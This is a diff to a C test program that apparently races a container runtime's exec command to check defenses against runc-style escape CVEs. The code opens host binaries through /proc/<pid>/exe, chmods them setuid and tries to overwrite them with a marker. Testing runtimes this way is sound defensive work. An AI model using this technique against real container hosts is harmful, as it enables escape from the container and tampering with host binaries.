@@ -1,8 +1,10 @@
 /*
  * A container process racing `secctx exec` (CVE-2019-5736, CVE-2016-9962, CVE-2024-21626).
  *
- * racer SECONDS: for SECONDS, or until /tools/stop exists, scans /proc over and over. Every process whose comm is not one
- * of the container's own (sh, sleep, racer, true) is a joiner from the host. Of each one it
+ * racer SECONDS: for SECONDS, or until /tools/stop exists, scans /proc over and over. Every
+ * process whose comm is not one of the container's own (sh, sleep, racer, true) is a joiner
+ * from the host. Of each one whose exe is not a file of the container (its busybox, the
+ * racer), it
  *   - opens /proc/<pid>/exe with O_PATH, then chmods /proc/self/fd/N to 04755 and opens it
  *     for writing (retried until the end: a binary nothing runs any more is writable again),
  *     and writes a marker to the start of the file if it gets there;
@@ -23,6 +25,7 @@
 #define MAX_HELD 256
 
 static int held[MAX_HELD];
+static struct stat own[2]; /* the container's busybox and the racer itself */
 static int nheld;
 static long seen, exe_opened, exe_denied, chmod_ok, write_ok, fd_dirs, created;
 
@@ -59,6 +62,18 @@ static void attack_exe(int pid)
 			exe_denied++;
 		return;
 	}
+	/* Between a joiner's execve and its new comm, its exe is already the container's own
+	 * binary: not a host file, not a target. */
+	{
+		struct stat st;
+
+		if (fstat(fd, &st) == 0)
+			for (int i = 0; i < 2; i++)
+				if (st.st_dev == own[i].st_dev && st.st_ino == own[i].st_ino) {
+					close(fd);
+					return;
+				}
+	}
 	exe_opened++;
 	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
 	if (chmod(path, 04755) == 0)
@@ -81,7 +96,7 @@ static void attack_fds(int pid)
 	if (!d)
 		return;
 	while ((e = readdir(d))) {
-		char fdpath[96];
+		char fdpath[300];
 		int dir, f;
 
 		if (e->d_name[0] == '.' || atoi(e->d_name) < 3)
@@ -106,6 +121,8 @@ int main(int argc, char **argv)
 	int self = getpid();
 	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
 
+	if (stat("/bin/busybox", &own[0]) != 0 || stat("/proc/self/exe", &own[1]) != 0)
+		return 2;
 	printf("ready\n");
 	fflush(stdout);
 	while (time(NULL) < end && access("/tools/stop", F_OK) != 0) {
